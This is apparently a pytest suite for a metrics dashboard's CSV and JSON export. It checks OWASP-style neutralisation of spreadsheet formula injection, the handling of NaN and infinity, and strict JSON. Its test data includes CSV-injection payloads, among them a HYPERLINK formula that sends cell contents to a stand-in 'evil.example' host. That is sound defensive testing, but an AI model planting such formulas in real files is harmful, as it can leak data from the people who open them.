"""Files the dashboard exports: the server's "all shown" export and a card's own download built in the page write
the same cells (``dashboard.export_cells``): OWASP's CSV-injection rule for names, NaN and ±Inf kept apart, strict
JSON. The writers refuse a wall time that is not a finite number.
"""
import csv
import io
import json
import math
import os
import re

import numpy as np
import pytest

from dashboard_page import flowlab_serve, open_dashboard
from flowlab.dashboard.export_cells import CELLS_JS, csv_number, csv_text, json_number
from flowlab.dashboard.views.scalars import export_text
from jupyter_page import CHROMIUM

needs_chromium = pytest.mark.skipif(not os.path.exists(CHROMIUM), reason=f"needs Debian's chromium at {CHROMIUM}")

# (name, its CSV cell): every formula start OWASP lists gets the quote, in front of the cell's text and inside its
# double quotes; other names are only quoted.
TEXT_CASES = [
    ('=HYPERLINK("http://evil.example/?"&A1,"open")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"'),
    ("+1+1", "\"'+1+1\""),
    ("-2+3", "\"'-2+3\""),
    ("-1.5", "\"'-1.5\""),                      # a name, not a number: text cells are escaped whatever they hold
    ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
    ("\t=1+1", "\"'\t=1+1\""),
    ("\r=1+1", "\"'\r=1+1\""),
    ("plain", '"plain"'),
    ("a,=1+1", '"a,=1+1"'),                     # the comma stays inside the cell: no new cell starts with "="
    ('say "hi"', '"say ""hi"""'),
    ("line\n=1", '"line\n=1"'),
    ("x=1", '"x=1"'),
    ("'quoted", "\"'quoted\""),
    ("", '""'),
]
# (value, its CSV cell, its JSON value): numbers stay numbers (-1.5 gets no quote), NaN and ±Inf stay apart.
NUMBER_CASES = [(1.5, "1.5", 1.5), (-1.5, "-1.5", -1.5), (0.0, "0.0", 0.0), (-2e-300, "-2e-300", -2e-300),
                (math.nan, "nan", "NaN"), (math.inf, "inf", "Infinity"), (-math.inf, "-inf", "-Infinity")]


def strict_json(text):
    """``json.loads`` that refuses the bare ``NaN``/``Infinity``/``-Infinity`` Python's reader would accept."""
    def refuse(constant):
        raise ValueError(f"not strict JSON: bare {constant}")
    return json.loads(text, parse_constant=refuse)


def _number_cell_matches(cell, expected):
    # the page writes numbers as JavaScript does (1 where Python writes 1.0): the same number, or the same word
    return cell == expected if expected in ("nan", "inf", "-inf") else float(cell) == float(expected)


def test_python_cells_follow_owasp_and_keep_nonfinite_apart():
    assert [csv_text(name) for name, _ in TEXT_CASES] == [cell for _, cell in TEXT_CASES]
    assert [csv_number(v) for v, _, _ in NUMBER_CASES] == [cell for _, cell, _ in NUMBER_CASES]
    assert [json_number(v) for v, _, _ in NUMBER_CASES] == [value for _, _, value in NUMBER_CASES]


@needs_chromium
def test_page_cells_are_the_same_rule(chromium):
    page = chromium.new_page()
    try:
        got = page.evaluate(f"""([names, numbers]) => {{ {CELLS_JS}
            return [names.map(csv_text), numbers.map(csv_number), numbers.map(json_number)]; }}""",
                            [[name for name, _ in TEXT_CASES], [v for v, _, _ in NUMBER_CASES]])
    finally:
        page.close()
    texts, numbers, json_values = got
    assert texts == [cell for _, cell in TEXT_CASES]
    assert all(_number_cell_matches(cell, expected) for cell, (_, expected, _) in zip(numbers, NUMBER_CASES)), numbers
    assert json_values == [value for _, _, value in NUMBER_CASES]


def test_server_export_neutralises_formulas_and_writes_strict_json():
    names = [name for name, _ in TEXT_CASES]
    walls = [1.5, math.nan, math.inf, 4.5]               # a wall time read from another writer's file may be NaN
    values = np.array([math.inf, -math.inf, math.nan, -1.5])
    columns = [(name, "tag" + name, [0, 1, 2, 3], walls, values) for name in names]
    rows = list(csv.reader(io.StringIO(export_text(columns, "csv"), newline="")))
    assert rows[0] == ["run", "tag", "step", "wall_time", "value"] and len(rows) == 1 + 4 * len(names)
    for k, name in enumerate(names):
        run = [row for row in rows[1 + 4 * k: 5 + 4 * k]]
        quote = "'" if name.startswith(("=", "+", "-", "@", "\t", "\r")) else ""
        assert {row[0] for row in run} == {quote + name} and {row[1] for row in run} == {"tag" + name}
        assert [row[3] for row in run] == ["1.5", "nan", "inf", "4.5"]
        assert [row[4] for row in run] == ["inf", "-inf", "nan", "-1.5"]   # a negative value is no formula
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
    series = strict_json(export_text(columns, "json"))
    assert [s["run"] for s in series] == names                           # JSON keeps names as they are
    assert series[0]["wall_time"] == [1.5, "NaN", "Infinity", 4.5]
    assert series[0]["value"] == ["Infinity", "-Infinity", "NaN", -1.5]


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf, np.float32("nan"), np.array([np.inf])])
def test_writers_refuse_a_nonfinite_walltime(tmp_path, bad):
    from flowlab.summary import SummaryWriter
    with SummaryWriter(tmp_path) as w:
        for call, name in ((lambda: w.add_scalar("x", 1.0, 0, walltime=bad), "walltime"),
                           (lambda: w.add_scalars("m", {"a": 1.0}, 0, walltime=bad), "walltime"),
                           (lambda: w.add_text("t", "x", 0, walltime=bad), "walltime"),
                           (lambda: w.file_writer.add_scalar("x", 1.0, 0, wall_time=bad), "wall_time"),
                           (lambda: w.file_writer.add_summary([], 0, wall_time=bad), "wall_time")):
            with pytest.raises(ValueError, match=rf"^{name} must be a finite number of seconds since the epoch, "
                                                 r"got (nan|inf|-inf)$"):
                call()
        w.add_scalar("x", 1.0, 0, walltime=1000.0)                 # a finite one still goes


# Runs named as an attacker would (a directory name cannot hold "/"), each logging +Inf, -Inf and NaN.
HOSTILE_RUNS = ['=HYPERLINK("evil.example?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "plain"]
VALUES = [1.0, math.inf, -math.inf, math.nan, -1.5, 2.0]


@needs_chromium
def test_card_download_built_in_the_page_is_safe_and_strict(chromium, tmp_path):
    from flowlab.summary import SummaryWriter
    logdir = tmp_path / "logs"
    for run in HOSTILE_RUNS:
        with SummaryWriter(logdir / run) as w:
            for step, value in enumerate(VALUES):
                w.add_scalar("x", value, step, walltime=1000.0 + step)
    with flowlab_serve(logdir, tmp_path / "stderr.txt") as (url, _):
        page, errors = open_dashboard(chromium, url, viewport={"width": 1400, "height": 900}, accept_downloads=True)
        try:
            # the card's marks name every non-finite point once the card has all runs
            page.wait_for_function(f"""() => [...Bokeh.documents[0].all_models].some((m) =>
                m.constructor.__name__ === "ColumnDataSource" && "what" in m.data
                && m.data.what.length === {3 * len(HOSTILE_RUNS)})""", polling=50, timeout=60000)
            files = {}
            for fmt in ("CSV", "JSON"):
                with page.expect_download() as download:
                    page.locator(".bk-btn", has_text=re.compile(rf"^⤓ {fmt}$")).first.click()
                path = tmp_path / f"x.{fmt.lower()}"
                download.value.save_as(path)
                files[fmt] = path.read_text(encoding="utf-8")
            assert errors == []
        finally:
            page.close()
    rows = list(csv.reader(io.StringIO(files["CSV"], newline="")))
    assert rows[0] == ["run", "step", "wall_time", "value"] and len(rows) == 1 + len(HOSTILE_RUNS) * len(VALUES)
    by_run = {}
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
        by_run.setdefault(row[0], []).append(row)
    expected_runs = {("'" if run[0] in "=+-@\t\r" else "") + run for run in HOSTILE_RUNS}
    assert set(by_run) == expected_runs
    for run_rows in by_run.values():
        assert [float(row[1]) for row in run_rows] == list(range(len(VALUES)))
        assert [float(row[2]) for row in run_rows] == [1000.0 + step for step in range(len(VALUES))]
        cells = [row[3] for row in run_rows]
        assert cells[1:4] == ["inf", "-inf", "nan"], cells             # a divergence is not missing data
        assert [float(c) for c in cells] == pytest.approx(VALUES, nan_ok=True)
    series = strict_json(files["JSON"])
    assert {o["run"] for o in series} == set(HOSTILE_RUNS)
    for run in HOSTILE_RUNS:
        points = [o for o in series if o["run"] == run]
        assert [o["value"] for o in points] == [1.0, "Infinity", "-Infinity", "NaN", -1.5, 2.0]
        assert [o["wall_time"] for o in points] == [1000.0 + step for step in range(len(VALUES))]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("chunk_points", [1, 2, 7, 1000])
def test_streamed_chunks_make_the_same_file_at_any_chunk_size(fmt, chunk_points):
    from flowlab.dashboard.export_stream import export_chunks
    rng = np.random.default_rng(0)
    values = rng.normal(size=7)
    values[[1, 4, 5]] = [np.nan, np.inf, -np.inf]
    columns = [("run", "=cmd", np.arange(7), 1000.0 + np.arange(7), values),
               ('qu"ote', "empty", np.zeros(0, np.int64), np.zeros(0), np.zeros(0)),
               ("b", "one", np.array([3]), np.array([5.5]), np.array([2.0]))]
    chunks = list(export_chunks(columns, fmt, chunk_points=chunk_points))
    text = "".join(chunks)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + 7 + 1 and rows[1][:2] == ["run", "'=cmd"] and rows[-1] == ["b", "one", "3", "5.5", "2.0"]
        assert [r[4] for r in rows[1:8]][1] == "nan" and [r[4] for r in rows[1:8]][4:6] == ["inf", "-inf"]
        assert max(c.count("\n") for c in chunks) <= max(chunk_points, 1)   # a chunk holds at most chunk_points rows
    else:
        series = strict_json(text)
        assert [s["tag"] for s in series] == ["=cmd", "empty", "one"] and series[1]["value"] == []
        assert series[0]["step"] == list(range(7)) and series[0]["value"][1] == "NaN"
        assert series[0]["value"][4:6] == ["Infinity", "-Infinity"] and series[2]["wall_time"] == [5.5]
    assert text == export_text(columns, fmt)
    one_chunk = "".join(export_chunks(columns, fmt, chunk_points=10**6))
    assert text == one_chunk


def test_export_chunks_reject_bad_arguments():
    from flowlab.dashboard.export_stream import EXPORTS, export_chunks
    with pytest.raises(ValueError, match="fmt must be 'csv' or 'json', got 'xml'"):
        next(export_chunks([], "xml"))
    with pytest.raises(ValueError, match="chunk_points must be at least 1, got 0"):
        next(export_chunks([], "csv", chunk_points=0))
    with pytest.raises(ValueError, match="fmt must be"):
        EXPORTS.add(object(), [], "tsv")
